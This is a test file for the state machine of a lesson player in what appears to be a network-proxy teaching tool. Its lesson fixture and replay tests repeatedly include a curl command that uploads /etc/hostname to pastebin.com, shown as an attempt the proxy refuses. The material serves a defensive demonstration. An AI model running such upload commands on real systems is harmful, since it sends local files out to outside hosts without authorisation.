import { describe, expect, it } from "vitest";
import { bypassRefused, pastebinRefused, zenServed, zenUnreadable } from "../../../lessons/testing/windows";
import { type LoadedLesson, loadLessonText } from "./lesson-core";
import { closedPlayer, currentStep, focusesPage, type PlayerEffect, resumeRule, updatePlayer } from "./player-machine";

// The lesson player's state machine, without a DOM: what each event does to the state, and
// which effects the mount must perform (log, post to an embedding page, keep progress, setup).

const TEXT = `lesson: 1
title: Two ways out
setup:
  - mkdir -p /tmp/demo
steps:
  - title: Pastebin
    run: curl -sS -T /etc/hostname https://pastebin.com/api/upload
    expect:
      - verdict: host-not-allowed
        by: proxy
    hint: The host must be pastebin.com.
    explain: Refused before a byte left.
  - title: An allowed GET
    type: demo
    run: curl -sS https://api.github.com/zen; echo
    expect:
      - verdict: served
        by: proxy
        target: api.github.com
`;

const lesson = (source: "bundled" | "url" | "link" = "bundled"): LoadedLesson => {
  const loaded = loadLessonText({ text: TEXT, pin: "a".repeat(64), source, ref: "t" });
  if (!loaded.ok) throw new Error(loaded.reason);
  return loaded.lesson;
};
const kinds = (effects: readonly PlayerEffect[]) => effects.map((e) => (e.kind === "post" ? `post ${e.message.type}` : e.kind));

describe("the lesson player's state machine", () => {
  it("opening a lesson logs its load, tells the embedder, keeps progress, announces step 1 and runs the setup", () => {
    const { state, effects } = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
    expect(currentStep(state)).toBe(0);
    expect(kinds(effects)).toEqual(["log", "post lesson.loaded", "persist", "post lesson.step-started", "run-setup"]);
    expect(effects.find((e) => e.kind === "run-setup")).toEqual({ kind: "run-setup", commands: ["mkdir -p /tmp/demo"] });
  });

  it("a wrong command fails the step with its hint and stays; the right one passes with its explanation and moves on", () => {
    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
    t = updatePlayer(t.state, { kind: "command", window: bypassRefused() });
    expect(t.state.attempt).toMatchObject({ result: "failed", step: 0, note: "The host must be pastebin.com." });
    expect(currentStep(t.state)).toBe(0);
    expect(kinds(t.effects)).toEqual(["log", "post lesson.step-failed", "persist"]);
    t = updatePlayer(t.state, { kind: "command", window: pastebinRefused() });
    expect(t.state.attempt).toMatchObject({ result: "passed", note: "Refused before a byte left." });
    expect(currentStep(t.state)).toBe(1);
    expect(kinds(t.effects)).toEqual(["log", "post lesson.step-passed", "persist", "post lesson.step-started"]);
  });

  it("a link's step behind what this browser kept starts there and keeps the kept progress until this visit passes beyond it", () => {
    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: 0 });
    expect(currentStep(t.state)).toBe(0);
    expect(kinds(t.effects)).not.toContain("persist");
    t = updatePlayer(t.state, { kind: "command", window: pastebinRefused() });
    expect(currentStep(t.state)).toBe(1);
    expect(kinds(t.effects)).not.toContain("persist");
  });

  it("a served step whose upstream fails does not pass; served, the lesson is done", () => {
    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: null });
    t = updatePlayer(t.state, { kind: "command", window: zenUnreadable() });
    expect(t.state.attempt?.result).toBe("failed");
    expect(t.state.attempt?.explanation).toMatch(/upstream-unreadable/);
    t = updatePlayer(t.state, { kind: "command", window: zenServed() });
    expect(currentStep(t.state)).toBe(2);
    expect(kinds(t.effects)).toContain("post lesson.done");
  });

  it("a failed setup blocks judging until Restart, which starts over, forgets the progress and runs the setup again", () => {
    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: undefined, startAt: null });
    t = updatePlayer(t.state, { kind: "setup-failed", reason: "setup 1 `mkdir -p /tmp/demo` exited 1" });
    t = updatePlayer(t.state, { kind: "command", window: pastebinRefused() });
    expect(t.effects).toEqual([]);
    expect(currentStep(t.state)).toBe(0);
    t = updatePlayer(t.state, { kind: "restart" });
    expect(t.state.blocked).toBeNull();
    expect(kinds(t.effects)).toEqual(["forget", "persist", "post lesson.step-started", "run-setup"]);
    expect(updatePlayer(t.state, { kind: "command", window: pastebinRefused() }).state.attempt?.result).toBe("passed");
  });

  it("a link's step wins over the kept progress; closing leaves nothing open and judges nothing", () => {
    const t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 0, passed: [] }, startAt: 1 });
    expect(currentStep(t.state)).toBe(1);
    const closed = updatePlayer(t.state, { kind: "close" });
    expect(closed.state).toEqual(closedPlayer);
    expect(updatePlayer(closed.state, { kind: "command", window: pastebinRefused() }).effects).toEqual([]);
  });

  it("a shipped lesson opened past step 1 says so and types the setup and the earlier steps' commands again at once, not judged", () => {
    const { effects } = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: null });
    expect(effects.find((e) => e.kind === "say")).toMatchObject({ text: expect.stringMatching(/^Resuming at step 2/) });
    expect(effects.find((e) => e.kind === "run-setup")).toEqual({
      kind: "run-setup",
      commands: ["mkdir -p /tmp/demo"],
      replay: ["curl -sS -T /etc/hostname https://pastebin.com/api/upload"],
    });
  });

  it("a lesson from a link or a URL opened past step 1 types nothing until the reader presses Replay, which lists what it types", () => {
    for (const source of ["url", "link"] as const) {
      let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(source), saved: { step: 1, passed: [1] }, startAt: null });
      expect(kinds(t.effects)).not.toContain("run-setup");
      expect(t.effects.find((e) => e.kind === "say")).toMatchObject({ text: expect.stringMatching(/Replay 2 commands/) });
      expect(t.state.replay).toEqual({
        step: 1,
        setup: ["mkdir -p /tmp/demo"],
        commands: ["curl -sS -T /etc/hostname https://pastebin.com/api/upload"],
      });
      t = updatePlayer(t.state, { kind: "replay" });
      expect(t.state.replay).toBeNull();
      expect(t.effects.find((e) => e.kind === "run-setup")).toEqual({
        kind: "run-setup",
        commands: ["mkdir -p /tmp/demo"],
        replay: ["curl -sS -T /etc/hostname https://pastebin.com/api/upload"],
      });
      // Pressed twice (a double click), it types once.
      expect(updatePlayer(t.state, { kind: "replay" }).effects).toEqual([]);
    }
  });

  it("a pending replay goes once the reader passes its step by hand, or restarts", () => {
    const opened = updatePlayer(closedPlayer, { kind: "open", lesson: lesson("url"), saved: { step: 1, passed: [1] }, startAt: null });
    const failed = updatePlayer(opened.state, { kind: "command", window: pastebinRefused() });
    expect(failed.state.replay).not.toBeNull();
    const passed = updatePlayer(failed.state, { kind: "command", window: zenServed() });
    expect(currentStep(passed.state)).toBe(2);
    expect(passed.state.replay).toBeNull();
    expect(updatePlayer(passed.state, { kind: "replay" }).effects).toEqual([]);
    const restarted = updatePlayer(opened.state, { kind: "restart" });
    expect(restarted.state.replay ?? null).toBeNull();
    expect(updatePlayer(restarted.state, { kind: "replay" }).effects).toEqual([]);
  });

  it("resumeRule: a shipped lesson replays at once, one from a link or a URL on a click; step 1 and a finished lesson replay nothing", () => {
    expect(resumeRule(lesson(), 1)).toMatchObject({ kind: "at-once", replay: { step: 1 } });
    expect(resumeRule(lesson("url"), 1)).toMatchObject({ kind: "on-click", replay: { step: 1 } });
    expect(resumeRule(lesson("link"), 1)).toMatchObject({ kind: "on-click" });
    expect(resumeRule(lesson("link"), 0)).toEqual({ kind: "none" });
    expect(resumeRule(lesson(), 2)).toEqual({ kind: "none" });
  });

  it("the page is focused on a lesson while it runs, and given back once it is finished or closed", () => {
    expect(focusesPage(closedPlayer)).toBe(false);
    let t = updatePlayer(closedPlayer, { kind: "open", lesson: lesson(), saved: { step: 1, passed: [1] }, startAt: null });
    expect(focusesPage(t.state)).toBe(true);
    t = updatePlayer(t.state, { kind: "command", window: zenServed() });
    expect(t.effects.map((e) => (e.kind === "post" ? e.message.type : e.kind))).toContain("lesson.done");
    expect(focusesPage(t.state)).toBe(false);
    // Reopened finished (a reload), it stays given back; Restart focuses it again.
    t = updatePlayer(t.state, { kind: "open", lesson: lesson(), saved: t.state.progress, startAt: null });
    expect(focusesPage(t.state)).toBe(false);
    expect(focusesPage(updatePlayer(t.state, { kind: "restart" }).state)).toBe(true);
    expect(focusesPage(updatePlayer(t.state, { kind: "close" }).state)).toBe(false);
  });
});
